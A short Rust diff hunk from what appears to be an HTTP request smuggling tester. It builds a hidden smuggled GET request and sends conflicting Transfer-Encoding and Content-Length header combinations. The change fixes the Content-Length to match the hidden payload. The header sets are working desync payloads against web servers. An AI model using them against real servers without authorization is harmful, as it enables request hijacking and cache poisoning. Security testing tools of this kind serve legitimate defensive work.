@@ -93,7 +93,7 @@ pub fn run(addr: &str, kind: Kind, own: bool) -> Result<()> {
         Kind::Smuggling => {
             let hidden = format!("0\r\n\r\nGET /{rest}\r\n");
             for fields in [
-                "Transfer-Encoding: chunked\r\nContent-Length: 5",
+                &format!("Transfer-Encoding: chunked\r\nContent-Length: {}", hidden.len()),
                 "Content-Length: 5\r\nContent-Length: 0",
                 "Transfer-Encoding: chunked, x",
             ] {
